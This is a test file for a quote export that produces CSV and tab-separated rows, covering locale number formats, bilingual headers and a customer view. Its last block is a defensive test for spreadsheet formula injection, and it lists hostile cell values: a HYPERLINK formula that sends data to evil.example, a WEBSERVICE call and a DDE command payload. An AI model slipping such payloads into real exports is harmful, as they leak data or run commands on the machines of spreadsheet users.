import { describe, expect, it } from 'vitest';
import { translator } from '@shared/i18n/translator';
import { priceInfo } from '../../../../../test/support/price-info';
import { priceLine, quoteTotal, type PricedLine } from '@shared/quote/priced-quote';
import type { PriceBasis } from '@shared/quote/quote-figures';
import { openAsSpreadsheet, pasteIntoSpreadsheet } from '../../../../../test/support/spreadsheet-reading';
import { decimalSeparator, quoteRows, toCsv, toTsv } from './quote-export';

const line: PricedLine = {
  artnr: '900155',
  quantity: 3,
  factor: '1.25',
  currency: 'EUR',
  priceSet: true,
  unitPrice: '47.85',
  factorPrice: '59.81',
  lineTotal: '179.43',
  // As priceLine prices it: 47.85 gross is 40.21 net, × 1.25 is 50.26, × 3 is 150.78.
  net: { unitPrice: '40.21', factorPrice: '50.26', lineTotal: '150.78' },
  tax: '19',
  offer: 'offered',
  dealerPrice: '24.13',
  stock: 11,
  deliveryDays: 0,
  lifecycle: 'E',
  warnings: [],
};
const en = translator('en');
const de = translator('de');
type Options = { locale: string; words: typeof en; customer: boolean; basis?: PriceBasis };
/** The rows as the buttons make them: the quote's total on its basis (gross unless said). */
const rows = (lines: PricedLine[], options: Options): string[][] => {
  const { customer, ...rest } = options;
  const basis = options.basis ?? 'gross';
  const cells = quoteRows(lines, quoteTotal(lines, basis), { ...rest, copy: customer ? 'customer' : 'internal', basis, ownVatId: '' });
  // As the screen would word them: a number cell's text.
  return cells.map((row) => row.map((cell) => (typeof cell === 'string' ? cell : cell.number)));
};

describe('quote export', () => {
  it('keeps a unit price below a cent as it is, in both views', () => {
    const subCent = {
      ...line,
      factor: null,
      unitPrice: '0.0125',
      factorPrice: null,
      dealerPrice: '0.0075',
      quantity: 100,
      lineTotal: '1.25',
    };
    const internal = rows([subCent], { locale: 'de-DE', words: en, customer: false })[1];
    expect(internal?.slice(0, 9)).toEqual(['900155', '', '100', '0,0125', '', '', '1,25', 'EUR', '0,0075']);
    const customer = rows([subCent], { locale: 'en-US', words: en, customer: true })[1];
    expect(customer?.slice(0, 5)).toEqual(['900155', '', '100', '0.0125', '1.25']);
  });

  it('knows the decimal mark of a locale', () => {
    expect(decimalSeparator('de-DE')).toBe(',');
    expect(decimalSeparator('en-US')).toBe('.');
  });

  it('writes numbers as numbers of the locale, with the totals block under the line totals', () => {
    const table = rows([line], { locale: 'de-DE', words: en, customer: false });
    expect(table[1]).toEqual([
      '900155',
      '',
      '3',
      '47,85',
      '1,25',
      '59,81',
      '179,43',
      'EUR',
      '24,13',
      '11+',
      '',
      '0',
      'E',
      'from stock – phasing out',
    ]);
    expect(table.slice(2).map((row) => row.slice(0, 8))).toEqual([
      ['Total (gross)', '', '', '', '', '', '179,43', 'EUR'],
      // English words in a German regional format: the percentage in English's style.
      ['including 19% VAT', '', '', '', '', '', '28,65', 'EUR'],
    ]);
  });

  it('hides dealer prices and the factor in the customer view', () => {
    const table = rows([line], { locale: 'en-US', words: en, customer: true });
    expect(table[0]).toEqual([
      'Article',
      'Description',
      'Quantity',
      'Unit price (gross)',
      'Line total (gross)',
      'Currency',
      'Availability',
    ]);
    expect(table[1]).toEqual(['900155', '', '3', '59.81', '179.43', 'EUR', 'from stock – phasing out']);
    expect(JSON.stringify(table)).not.toContain('24.13');
    expect(JSON.stringify(table)).not.toContain('1.25');
  });

  it('on the net basis: net prices, net line totals, the net total, the VAT added and the gross', () => {
    const table = rows([line], { locale: 'de-DE', words: de, customer: true, basis: 'net' });
    expect(table[0]).toEqual(['Artikel', 'Bezeichnung', 'Menge', 'Einzelpreis netto', 'Zeilensumme netto', 'Währung', 'Verfügbarkeit']);
    expect(table[1]?.slice(0, 5)).toEqual(['900155', '', '3', '50,26', '150,78']);
    expect(table.slice(2).map((row) => [row[0], row[4]])).toEqual([
      ['Summe netto', '150,78'],
      ['zzgl. 19\u00a0% MwSt.', '28,65'],
      ['Gesamtbetrag brutto', '179,43'],
    ]);
  });

  it('says "on request" for a line without a price, never 0 or 0,00, and what the total leaves out', () => {
    const none = priceLine({ artnr: '770001', quantity: 2, factor: null }, priceInfo({ price: '0', dealer_price: '0', lifecycle: 'A' }));
    const gone = priceLine({ artnr: '770412', quantity: 4, factor: null }, priceInfo({ price: '23.27', lifecycle: 'F', stock: 0 }));
    for (const customer of [true, false]) {
      const table = rows([none, gone, line], { locale: 'de-DE', words: de, customer });
      const noPrice = table[1]!;
      expect(noPrice).toContain('auf Anfrage');
      expect(noPrice).toContain('Preis auf Anfrage');
      // Only its delivery days are 0 (a count); its dealer price, not set either, is said so.
      expect(noPrice.filter((cell) => /^0(,00)?$/.test(cell))).toEqual(customer ? [] : ['0']);
      if (!customer) expect(noPrice[8]).toBe('nicht hinterlegt');
      expect(table[2]).toContain('nicht mehr lieferbar');
      expect(table.at(-1)?.[0]).toBe('Nicht in der Summe: 1 Position mit Preis auf Anfrage, 1 Position nicht mehr lieferbar.');
      expect(table.find((row) => row[0] === 'Gesamtbetrag brutto')).toContain('179,43');
    }
  });

  it('writes the headers in the UI language and the numbers in the regional format, independently', () => {
    const germanWordsUsNumbers = rows([line], { locale: 'en-US', words: de, customer: false });
    expect(germanWordsUsNumbers[0]).toEqual([
      'Artikel',
      'Bezeichnung',
      'Menge',
      'Preis brutto',
      'Faktor',
      'Preis × Faktor brutto',
      'Zeilensumme brutto',
      'Währung',
      'Händler-Listenpreis netto',
      'Lagerbestand',
      'Bestand vom',
      'Lieferzeit (Tage)',
      'Lebenszyklus',
      'Verfügbarkeit',
    ]);
    expect(germanWordsUsNumbers[1]?.[3]).toBe('47.85');
    expect(germanWordsUsNumbers[2]?.slice(0, 7)).toEqual(['Gesamtbetrag brutto', '', '', '', '', '', '179.43']);
    const csv = toCsv(germanWordsUsNumbers, 'en-US');
    expect(csv.startsWith('\ufeffArtikel,Bezeichnung,Menge,Preis brutto,Faktor,Preis × Faktor brutto,')).toBe(true);
    expect(csv).toContain('900155,,3,47.85,1.25,59.81,179.43,EUR');

    const englishWordsGermanNumbers = rows([line], { locale: 'de-DE', words: en, customer: true });
    expect(englishWordsGermanNumbers[0]).toEqual([
      'Article',
      'Description',
      'Quantity',
      'Unit price (gross)',
      'Line total (gross)',
      'Currency',
      'Availability',
    ]);
    expect(englishWordsGermanNumbers[1]).toEqual(['900155', '', '3', '59,81', '179,43', 'EUR', 'from stock – phasing out']);
    const englishCsv = toCsv(englishWordsGermanNumbers, 'de-DE');
    expect(
      englishCsv.startsWith('\ufeffArticle;Description;Quantity;Unit price (gross);Line total (gross);Currency;Availability\r\n'),
    ).toBe(true);
    expect(englishCsv).toContain('900155;;3;59,81;179,43;EUR;from stock – phasing out');
  });

  it('words availability for the customer in the UI language, with real plurals and without stock counts', () => {
    const availability = (stock: number, deliveryDays: number, words = en): string | undefined =>
      rows([{ ...line, stock, deliveryDays, lifecycle: 'A' }], { locale: 'de-DE', words, customer: true })[1]?.[6];
    expect(availability(0, 1)).toBe('available in approx. 1 day');
    expect(availability(0, 5)).toBe('available in approx. 5 days');
    expect(availability(0, 0)).toBe('no delivery date yet');
    expect(availability(3, 0, de)).toBe('ab Lager');
    expect(availability(0, 1, de)).toBe('lieferbar in ca. 1 Tag');
    expect(availability(0, 5, de)).toBe('lieferbar in ca. 5 Tagen');
    expect(availability(0, 0, de)).toBe('noch kein Liefertermin');
  });

  it("carries each line's description, and the date of stock that is not current, in both languages", () => {
    const fetchedAt = '2026-11-21T09:14:00.000Z';
    const kept: PricedLine = { ...line, description: 'Vorzeltleuchte; 12 V', lifecycle: 'A', stockAsOf: fetchedAt };
    const internal = rows([kept, line], { locale: 'de-DE', words: de, customer: false });
    expect(internal[1]?.slice(0, 3)).toEqual(['900155', 'Vorzeltleuchte; 12 V', '3']);
    // The stock stays the stock; its date is a column of its own.
    expect(internal[1]?.slice(9, 11)).toEqual(['11+', '21.11.26, 09:14']);
    expect(internal[2]?.slice(9, 11)).toEqual(['11+', '']);
    expect(toCsv(internal, 'de-DE')).toContain('900155;"Vorzeltleuchte; 12 V";3;47,85');
    const customer = rows([kept, line], { locale: 'en-US', words: en, customer: true });
    expect(customer[1]).toEqual(['900155', 'Vorzeltleuchte; 12 V', '3', '59.81', '179.43', 'EUR', 'from stock (as of Nov 21, 2026)']);
    expect(customer[2]?.[6]).toBe('from stock – phasing out');
    const german = rows([kept], { locale: 'de-DE', words: de, customer: true });
    expect(german[1]?.[6]).toBe('ab Lager (Stand 21.11.2026)');
  });

  it('makes tab-separated text without stray tabs or line breaks in cells', () => {
    expect(toTsv([['a\tb', 'c\nd']])).toBe('a b\tc d\r\n');
  });

  it('makes CSV with a BOM and the separator of the locale', () => {
    expect(
      toCsv(
        [
          ['a', '1,5'],
          ['"x"', 'y'],
        ],
        'de-DE',
      ),
    ).toBe('\ufeffa;1,5\r\n"""x""";y\r\n');
    expect(
      toCsv(
        [
          ['a', '1.5'],
          ['b,c', 'd'],
        ],
        'en-US',
      ),
    ).toBe('\ufeffa,1.5\r\n"b,c",d\r\n');
  });
});

describe('what a spreadsheet makes of the exports', () => {
  const hostile = [
    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
    '=WEBSERVICE("https://evil.example/")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+49 711 123',
    '-2+3',
    '\t=1+1',
  ];
  const lines = hostile.map((description, index): PricedLine => ({ ...line, artnr: `90015${index}`, description }));

  it.each([
    ['de-DE', ';'],
    ['en-US', ','],
  ] as const)('the CSV (%s) opens with every description as text and every figure as a number', (locale, delimiter) => {
    const table = quoteRows(lines, quoteTotal(lines, 'gross'), { locale, words: en, copy: 'internal', basis: 'gross', ownVatId: '' });
    const opened = openAsSpreadsheet(toCsv(table, locale), delimiter, locale);
    expect(opened.flat().filter((cell) => 'formula' in cell)).toEqual([]);
    expect(opened.slice(1, 1 + lines.length).map((row) => row[1])).toEqual(hostile.map((text) => ({ text })));
    // Quantity, price, factor, factor price, line total: numbers a sum can use.
    expect(opened[1]?.slice(2, 7)).toEqual([{ number: 3 }, { number: 47.85 }, { number: 1.25 }, { number: 59.81 }, { number: 179.43 }]);
    const totalRow = opened[1 + lines.length];
    expect(totalRow?.[6]).toEqual({ number: 1076.58 });
  });

  it('"Copy table" pastes every description as text and every figure as a number', () => {
    const table = quoteRows(lines, quoteTotal(lines, 'gross'), {
      locale: 'de-DE',
      words: de,
      copy: 'customer',
      basis: 'gross',
      ownVatId: '',
    });
    const pasted = pasteIntoSpreadsheet(toTsv(table), 'de-DE');
    expect(pasted.flat().filter((cell) => 'formula' in cell)).toEqual([]);
    expect(pasted[1]?.slice(1, 5)).toEqual([{ text: hostile[0] }, { number: 3 }, { number: 59.81 }, { number: 179.43 }]);
    // The tab inside a cell becomes a space, and the cell stays text.
    expect(pasted[6]?.[1]).toEqual({ text: ' =1+1' });
  });
});
